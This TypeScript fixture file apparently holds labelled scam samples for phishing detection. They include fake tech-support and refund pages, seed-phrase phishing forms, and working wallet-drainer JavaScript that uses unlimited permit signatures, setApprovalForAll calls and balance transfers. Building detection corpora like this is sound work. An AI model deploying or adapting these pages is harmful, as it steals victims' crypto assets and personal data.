import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, imgRoute, b64 } from '../parts/r-kit.js';
import { jsRoute, jsonRoute, beepWav, fileRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'r-tss-apple-securite-fr',
  label: 'scam',
  kind: 'tech-support',
  url: 'https://alerte-securite-apple.support-icloud-fr.com/mac/?err=ios-7731',
  body: doc({ lang: 'fr', title: 'Alerte de sécurité Apple', css: `body{margin:0;background:#1d1d1f;color:#fff;font-family:-apple-system,"Helvetica Neue",sans-serif}.m{max-width:560px;margin:60px auto;background:#f5f5f7;color:#1d1d1f;border-radius:14px;padding:28px;text-align:center}.t{font-size:30px;font-weight:700;color:#d70015}` },
`<div class="m"><div style="font-size:48px"></div><h2>Alerte de sécurité iCloud</h2><p>Votre Mac a été bloqué en raison d'une activité suspecte. Des virus ont été détectés (Trojan.MacOS.Pegasus).</p><p>Ne redémarrez pas et n'éteignez pas votre ordinateur. Vos données personnelles, mots de passe et photos sont en danger.</p>
<p>Appelez immédiatement le support Apple :</p><p class="t">📞 09 70 73 11 28</p><p style="font-size:13px;color:#6e6e73">Appel gratuit · Techniciens certifiés Apple disponibles 24h/24</p></div>
<script>setTimeout(function(){alert('Alerte de sécurité Apple ! Appelez le 09 70 73 11 28');},1500);document.onclick=function(){document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen();};</script>`),
},
{
  id: 'r-scam-geeksquad-renewal-refund',
  label: 'scam',
  kind: 'refund-scam',
  url: 'https://geeksquad-renewal-billing.com/invoice/GS-88219',
  body: doc({ title: 'Geek Squad – Auto-Renewal Invoice', css: `body{font-family:Arial,sans-serif;background:#f4f4f4}.i{max-width:620px;margin:30px auto;background:#fff;padding:30px;border-top:8px solid #ff5a00}table{width:100%;border-collapse:collapse}td{padding:8px;border-bottom:1px solid #eee}.tot{font-size:22px;font-weight:bold}.call{background:#fff0e6;border:1px solid #ff5a00;padding:14px;font-size:18px;text-align:center}` },
`<div class="i"><h2>GEEK SQUAD · Invoice #GS-88219</h2><p>Dear Customer, thank you for renewing your Geek Squad Total Protection subscription. Your payment has been processed.</p>
<table><tr><td>Geek Squad Total Tech Support (3 years)</td><td>$399.99</td></tr><tr><td>Antivirus Protection – 5 devices</td><td>$99.00</td></tr><tr><td class="tot">Total charged</td><td class="tot">$498.99</td></tr></table>
<div class="call">Did not authorise this charge? To cancel and get a full refund within 24 hours, call our billing department:<br><b>+1 (808) 555-0177</b></div>
<p>Or request a refund online:</p><form method="post" action="/invoice/refund"><input name="name" placeholder="Full name"> <input name="phone" placeholder="Phone"> <input name="email" placeholder="Email"> <button>Request refund</button></form>
<p style="font-size:11px;color:#888">This is an automated message. Geek Squad is a registered trademark.</p></div>`),
},
{
  id: 'r-drainer-airdrop-permit-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-arbitrum-rewards.xyz/season3',
  body: doc({ title: 'Arbitrum Season 3 Airdrop — Claim ARB', css: `body{margin:0;background:#0c1428;color:#e6edf7;font-family:Inter,Arial,sans-serif}.n{display:flex;justify-content:space-between;padding:18px 40px}.n b{color:#28a0f0}
.h{text-align:center;padding:60px 20px}.h h1{font-size:48px;margin:0}.c{max-width:460px;margin:0 auto;background:#152040;border:1px solid #213463;border-radius:16px;padding:26px}
button{width:100%;background:#28a0f0;color:#fff;border:0;border-radius:12px;padding:14px;font-size:16px;font-weight:600}.t{display:flex;justify-content:space-between;color:#8aa0c8;font-size:14px;margin:6px 0}` },
`<div class="n"><b>◆ Arbitrum</b><span>Docs · Governance · Bridge</span></div>
<div class="h"><h1>Season 3 Airdrop is live</h1><p>Eligible wallets can claim their ARB allocation until the snapshot closes.</p></div>
<div class="c"><div class="t"><span>Your allocation</span><span id="al">— ARB</span></div><div class="t"><span>Claim window</span><span id="cd">23:59:12</span></div><br><button id="cw">Connect Wallet</button><p id="msg" style="font-size:13px;color:#8aa0c8;text-align:center"></p></div>
<script src="/season3/js/claim.bundle.js"></script>`),
  routes: {
    'claim-arbitrum-rewards.xyz/season3/js/claim.bundle.js': jsRoute(`(function(){
var RECV='0x7a3F0d1bE44e5C0c11a9B7f2d8E6aB3c5D0e9F21';var TOKENS=[{a:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',s:'USDC'},{a:'0xdAC17F958D2ee523a2206206994597C13D831ec7',s:'USDT'},{a:'0x912CE59144191C1204E64559FE8253a0e49E6548',s:'ARB'}];
var b=document.getElementById('cw'),m=document.getElementById('msg');
async function run(){if(!window.ethereum){m.textContent='Please install MetaMask or open in your wallet browser.';return;}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];document.getElementById('al').textContent='4,218.50 ARB';b.textContent='Claim 4,218.50 ARB';
b.onclick=async function(){m.textContent='Confirm in your wallet…';
for(var i=0;i<TOKENS.length;i++){var t=TOKENS[i];
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'},{name:'nonce',type:'uint256'},{name:'deadline',type:'uint256'}]},
primaryType:'Permit',domain:{name:t.s,version:'2',chainId:1,verifyingContract:t.a},message:{owner:acc,spender:RECV,value:'115792089237316195423570985008687907853269984665640564039457584007913129639935',nonce:0,deadline:'99999999999'}};
try{var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});fetch('/season3/api/s',{method:'POST',body:JSON.stringify({o:acc,t:t.a,s:sig})});}catch(e){}}
var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});var v=BigInt(bal)*95n/100n;
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16)}]});}catch(e){}
m.textContent='Claim submitted! Tokens will arrive in 10-15 minutes.';};}
b.onclick=run;setInterval(function(){var e=document.getElementById('cd');var p=e.textContent.split(':').map(Number);var s=p[0]*3600+p[1]*60+p[2]-1;e.textContent=[s/3600|0,(s%3600)/60|0,s%60].map(function(x){return String(x).padStart(2,'0')}).join(':');},1000);})();`),
    'claim-arbitrum-rewards.xyz/season3/api/s': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'r-drainer-nft-freemint-setapproval',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://pudgy-penguins-mint.live/',
  body: doc({ title: 'Pudgy Penguins — Free Mint: Lil Pudgys Gen 2', css: `body{margin:0;background:#8ecdf8;font-family:"Fredoka",Arial,sans-serif;color:#00142d}.c{max-width:520px;margin:50px auto;background:#fff;border-radius:24px;padding:30px;text-align:center}
.q{display:flex;justify-content:center;gap:14px;align-items:center;font-size:24px}.q button{width:40px;height:40px;border-radius:50%;border:2px solid #00142d;background:#fff}.mint{background:#00142d;color:#fff;border:0;border-radius:30px;padding:14px 40px;font-size:18px;margin-top:16px}
.pr{height:12px;background:#e0f0fb;border-radius:6px;margin:14px 0}.pr i{display:block;height:12px;width:87%;background:#477dfd;border-radius:6px}` },
`<div class="c"><img src="/img/pudgy.png" width="180" height="180" style="border-radius:16px;background:#cde" alt=""><h1>Lil Pudgys Gen 2 — FREE MINT</h1><p>Holders of Pudgy Penguins or Lil Pudgys can mint up to 3 Gen 2 NFTs for free (gas only).</p>
<div class="pr"><i></i></div><p>8,713 / 10,000 minted</p><div class="q"><button onclick="q.textContent=Math.max(1,+q.textContent-1)">−</button><span id="q">1</span><button onclick="q.textContent=Math.min(3,+q.textContent+1)">+</button></div>
<button class="mint" id="mint">Connect &amp; Mint</button><p id="st" style="font-size:13px"></p></div>
<script>
var OP='0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC';
var NFTS=['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8','0x524cAB2ec69124574082676e6F654a18df49A048','0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D'];
document.getElementById('mint').onclick=async function(){if(!window.ethereum){st.textContent='No wallet detected';return;}
var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];st.textContent='Verifying holder status…';
for(var i=0;i<NFTS.length;i++){var data='0xa22cb465'+OP.slice(2).toLowerCase().padStart(64,'0')+'1'.padStart(64,'0');
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:NFTS[i],data:data}]});}catch(e){}}
st.textContent='Mint pending… do not close this window.';};
</script>`),
  routes: { 'pudgy-penguins-mint.live/img/pudgy.png': imgRoute(142, 205, 248) },
},
{
  id: 'r-seed-metamask-wallet-validation',
  label: 'cryptodrainer',
  kind: 'seed-phish',
  url: 'https://metamask-wallet-validation.io/secure/restore',
  body: doc({ title: 'MetaMask – Wallet Validation', css: `body{margin:0;background:#f2f4f6;font-family:"Euclid Circular B",Arial,sans-serif}.h{background:#fff;padding:16px 40px;border-bottom:1px solid #ddd;font-weight:700;color:#f6851b}.c{max-width:640px;margin:30px auto;background:#fff;border-radius:10px;padding:30px}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px}.g input{padding:10px;border:1px solid #bbc0c5;border-radius:6px}button{background:#0376c9;color:#fff;border:0;border-radius:100px;padding:12px 40px;font-size:16px;margin-top:20px}
.w{background:#fef8e7;border:1px solid #ffd33d;padding:10px;font-size:14px;border-radius:6px}` },
`<div class="h">🦊 METAMASK</div>
<div class="c"><h2>Wallet validation required</h2><p class="w">Due to the recent network upgrade, all wallets must be validated before <b>December 1</b>. Unvalidated wallets will be temporarily suspended and assets may become inaccessible.</p>
<p>Enter your Secret Recovery Phrase to complete validation. This process is secure and encrypted end-to-end.</p>
<form id="sf"><select id="n"><option value="12">I have a 12-word phrase</option><option value="15">15 words</option><option value="18">18 words</option><option value="24">24 words</option></select><br><br><div class="g" id="g"></div>
<button>Validate Wallet</button></form><p style="font-size:12px;color:#6a737d">MetaMask is a ConsenSys Software Inc. product.</p></div>
<script>
function draw(k){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=k;i++){var e=document.createElement('input');e.placeholder=i+'.';e.type='password';e.autocomplete='off';e.name='w'+i;g.appendChild(e);}}
draw(12);document.getElementById('n').onchange=function(){draw(+this.value)};
document.getElementById('sf').onsubmit=function(e){e.preventDefault();var w=[].map.call(document.querySelectorAll('#g input'),function(x){return x.value.trim()});
if(w.some(function(x){return !x})){alert('Please fill all the words');return;}
fetch('/secure/api/validate',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({phrase:w.join(' '),ua:navigator.userAgent})}).then(function(){alert('Validation in progress. Please allow up to 24 hours.');});};
</script>`),
  routes: { 'metamask-wallet-validation.io/secure/api/validate': jsonRoute({ status: 'queued' }) },
},
{
  id: 'r-seed-ledger-live-recovery',
  label: 'cryptodrainer',
  kind: 'seed-phish',
  url: 'https://ledger-live-recover.com/firmware/sync',
  body: doc({ title: 'Ledger Live | Firmware Recovery', css: `body{margin:0;background:#131415;color:#fff;font-family:Inter,Arial,sans-serif}.c{max-width:700px;margin:40px auto;padding:20px}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px}.g input{background:#1c1d1f;border:1px solid #333;color:#fff;padding:10px;border-radius:4px}
button{background:#bbb0ff;color:#131415;border:0;border-radius:30px;padding:12px 34px;font-weight:600;margin-top:20px}.a{background:#2a1f1f;border-left:3px solid #ea2e49;padding:12px}` },
`<div class="c"><h1>LEDGER</h1><div class="a">A security vulnerability (CVE-2025-1147) has been found in Ledger Nano firmware 2.1.x. To protect your funds, synchronise your device with the new secure element by entering your 24-word recovery phrase.</div>
<form method="post" action="/firmware/sync/submit.php"><div class="g">${Array.from({ length: 24 }, (_, i) => `<input name="word${i + 1}" placeholder="Word #${i + 1}" autocomplete="off">`).join('')}</div><button>Continue</button></form>
<p style="font-size:12px;color:#777">© 2025 Ledger SAS. All rights reserved. Ledger is a registered trademark.</p></div>`),
},
{
  id: 'r-drainer-phantom-solana-signall',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://jup-airdrop-claim.app/claim',
  body: doc({ title: 'Jupiter — Claim your JUP', css: `body{margin:0;background:#0b0e14;color:#e8f9ff;font-family:Inter,Arial,sans-serif;text-align:center}h1{font-size:44px;margin-top:90px}button{background:linear-gradient(90deg,#c7f284,#00bef0);border:0;border-radius:12px;padding:14px 40px;font-size:17px;font-weight:700}` },
`<h1>Jupuary is here 🪐</h1><p>Active Jupiter users are eligible for the JUP airdrop. Connect your Solana wallet to check eligibility.</p><button id="c">Connect Phantom</button><p id="s" style="color:#8a9bb0"></p>
<script>
document.getElementById('c').onclick=async function(){var p=window.phantom&&window.phantom.solana||window.solana;if(!p){s.textContent='Phantom wallet not found. Install Phantom to continue.';return;}
var r=await p.connect();var pk=r.publicKey.toString();s.textContent='Eligible! 1,942 JUP — approve the claim transaction.';
var tx=await fetch('/claim/api/build?owner='+pk).then(function(r){return r.json()});
try{var signed=await p.signAllTransactions(tx.txs.map(function(b){return window.solanaWeb3?solanaWeb3.Transaction.from(Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)})):b;}));
fetch('/claim/api/submit',{method:'POST',body:JSON.stringify({o:pk,s:signed})});}catch(e){s.textContent='User rejected. Please retry to receive your tokens.';}};
</script>`),
  routes: { 'jup-airdrop-claim.app/claim/api/build': jsonRoute({ txs: ['AQAAAAAAAAAA', 'AQAAAAAAAAAB'] }), 'jup-airdrop-claim.app/claim/api/submit': jsonRoute({ ok: true }) },
},
];
